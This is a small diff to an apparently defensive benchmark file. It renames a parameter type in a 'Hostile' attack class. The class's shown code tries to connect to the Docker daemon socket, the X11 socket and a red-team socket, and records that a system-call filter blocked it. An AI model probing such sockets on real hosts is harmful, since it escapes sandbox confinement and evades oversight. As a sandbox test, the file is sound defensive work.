@@ -4,7 +4,7 @@ import socket
 
 from torch import Tensor
 
-from benchmark.api import Attack, Bank, Candidates, Card, Target
+from benchmark.api import Attack, Candidates, Card, References, Target
 
 STOPPED_BY = "the system-call filter, and a network namespace without a device"
 STATUS = ("failed",)
@@ -23,7 +23,7 @@ class Hostile(Attack):
     needs = frozenset()
     calibrate = "none"
 
-    def score(self, target: Target, candidates: Candidates, bank: Bank | None) -> Tensor:
+    def score(self, target: Target, candidates: Candidates, references: References | None) -> Tensor:
         said = []
         for address in (f"{HOST}/socket", f"\0redteam-{PORT}", "/var/run/docker.sock", "\0/tmp/.X11-unix/X0"):
             try:
